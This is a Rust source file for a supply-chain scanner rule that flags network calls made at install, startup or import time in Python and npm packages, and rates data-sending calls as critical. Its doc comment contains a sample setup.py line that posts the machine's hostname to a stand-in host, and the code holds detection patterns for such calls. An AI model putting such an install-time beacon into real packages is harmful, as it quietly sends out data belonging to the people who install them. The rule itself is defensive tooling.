//! PY005 network-on-install.

use crate::context::{CodeFile, Cx};
use assay_core::{Capability, ExecutionContext, Finding, Severity};
use assay_lang::EventKind;

declare_rule! {
    /// ## What it does
    /// Flags network use — HTTP clients, sockets (also TLS-wrapped and `with … as s`),
    /// SMTP/FTP, DNS lookups, downloads, GitPython clones — in
    /// code that runs without the user calling anything: `setup.py`, startup hooks, or a
    /// module's top level.
    ///
    /// ## Why it matters
    /// Installing or importing a library should not talk to the network. Malicious
    /// packages beacon home, exfiltrate what they collected, or fetch a second stage here.
    ///
    /// ## Example
    /// ```python
    /// # setup.py
    /// import requests
    /// requests.post("https://example.invalid/c", data={"h": __import__("socket").gethostname()})
    /// ```
    ///
    /// ## False positives
    /// A few build scripts download a compiler or a data file at install time (severity
    /// medium there); libraries that probe connectivity at import are rarer (low). In an
    /// npm lifecycle script a download is medium: fetching the platform's binary there is
    /// the ecosystem's convention (esbuild's `install.js`). Sending data is critical in
    /// both languages.
    ///
    /// ## References
    /// - MITRE ATT&CK T1071 (Application Layer Protocol), T1041 (Exfiltration Over C2 Channel)
    pub static META = NetworkOnInstall;
}

/// Check network events in automatic contexts.
pub fn check_file(cx: &Cx, f: &CodeFile, out: &mut Vec<Finding>) {
    if f.is_test_or_doc() && f.role != assay_lang::FileRole::Startup {
        return;
    }
    for e in f.analysis.events.iter().filter(|e| {
        matches!(
            e.kind,
            EventKind::Network | EventKind::Download | EventKind::DnsLookup
        )
    }) {
        let sev = match e.context {
            ExecutionContext::Startup | ExecutionContext::InstallTime => Severity::High,
            ExecutionContext::ImportTime if f.role == assay_lang::FileRole::PackageInit => {
                Severity::Medium
            }
            ExecutionContext::ImportTime => Severity::Low,
            ExecutionContext::Runtime => continue,
        };
        let shown = e.arg.clone().unwrap_or_else(|| e.snippet.clone());
        let mut x = cx.event_finding(
            &META,
            f,
            e,
            sev,
            format!("{} at {}: {}", e.api, e.context.as_str(), shown),
        );
        if e.context == ExecutionContext::InstallTime {
            // Installing a package has no reason to talk to the network from setup.py.
            x.confidence = assay_core::Confidence::High;
            // npm packages fetch their platform binary in `postinstall` by convention
            // (esbuild, puppeteer, electron, cypress): a download is medium there, and
            // sending anything is still critical (below).
            if f.language == assay_lang::Language::JavaScript {
                x.severity = Severity::Medium;
            }
        }
        if matches!(
            e.context,
            ExecutionContext::InstallTime | ExecutionContext::Startup
        ) && sends_data(e)
        {
            // Sending data (a body, parameters, or a URL built from values) while
            // installing is a beacon or exfiltration, not a build step.
            x.severity = Severity::Critical;
            x.evidence = format!("sends data at {}: {}", e.context.as_str(), e.snippet);
        }
        x.capabilities = vec![Capability::Network];
        out.push(x);
    }
}

/// Whether a network call transmits data: a POST/PUT/PATCH, a body or query argument, or
/// a URL assembled from values at run time.
fn sends_data(e: &assay_lang::Event) -> bool {
    let last = e.api.rsplit('.').next().unwrap_or("");
    let s = &e.snippet;
    matches!(last, "post" | "put" | "patch")
        || ["data=", "json=", "params=", "files=", "body=", "body:"]
            .iter()
            .any(|k| s.contains(k))
        || ["'post'", "\"post\"", "`post`"]
            .iter()
            .any(|k| s.to_ascii_lowercase().contains(k))
        || (e.arg.is_none()
            && s.contains("http")
            && (s.contains('+')
                || s.contains("f\"")
                || s.contains("f'")
                || s.contains(".format(")
                || s.contains("%")))
}
